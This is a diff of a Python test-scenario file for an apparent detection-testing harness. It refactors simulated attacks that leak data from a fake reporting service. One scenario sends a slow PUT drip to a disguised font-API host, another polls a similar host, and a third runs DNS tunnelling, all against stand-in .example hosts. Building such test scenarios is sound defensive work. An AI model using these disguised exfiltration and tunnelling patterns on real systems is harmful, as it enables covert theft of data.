@@ -11,11 +11,16 @@ import socket
 from proving import zone
 from proving.hosts import Asked, Reply
 from proving.scenario import Must, Repeat, attack
-from proving.scenarios.movement import service, talk
-from proving.world import ScenarioError, World
+from proving.scenarios.movement import service, sshd, talk
+from proving.world import Actor, ScenarioError, World
 
 NOT = ("port-scan", "lateral-movement", "cryptomining")
 SHOP = "shop.service"
+
+
+def sends(world: World, path: str, unit: str, *words: str) -> Actor:
+    """A program in Node that sends bytes again and again (actors/jspost.js)."""
+    return world.start("node", world.program(path, "jspost.js"), *words, unit=unit)
 
 
 @attack(
@@ -96,9 +101,8 @@ def kept_drip(world: World) -> None:
     """Eighteen megabytes in all."""
     host = world.host("203.0.113.143", "api.webfonts-eu.example")
     host.http(443, lambda asked: Reply({"ok": True}), tls=True)
-    path = world.program("/srv/reporting/lib/upload.js", "jspost.js")
     words = ("https://api.webfonts-eu.example/v1/fonts", "PUT", "150000", "4", "0", "4", "kept")
-    actor = world.start("node", path, *words, unit="reporting.service")
+    actor = sends(world, "/srv/reporting/lib/upload.js", "reporting.service", *words)
     world.sleep(2.0)
     world.mark()
     with world.loop("drip"):
@@ -159,14 +163,6 @@ def tunnel_a(world: World) -> None:
     world.mark()
     world.run("node", path, "d.rr-collector.example", "300", timeout=90)
     assert len(world.names.asked) >= 300
-
-
-def sshd(connection: socket.socket) -> None:
-    """The beginning of the protocol, where the connection ends."""
-    connection.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u3\r\n")
-    heard = 0
-    while heard < 600:
-        heard += len(connection.recv(4096)) or 600
 
 
 @attack(
@@ -295,9 +291,8 @@ def metadata_notebook(world: World) -> None:
 def kept_tls(world: World) -> None:
     host = world.host("203.0.113.146", "eu.font-service.example")
     host.http(443, lambda asked: Reply({"n": 0}), tls=True)
-    path = world.program("/srv/reporting/lib/fonts.js", "jspost.js")
     words = ("https://eu.font-service.example/v2/next", "GET", "0", "3", "0", "4", "kept")
-    actor = world.start("node", path, *words, unit="reporting.service")
+    actor = sends(world, "/srv/reporting/lib/fonts.js", "reporting.service", *words)
     world.sleep(1.5)
     world.mark()
     with world.loop("ask"):
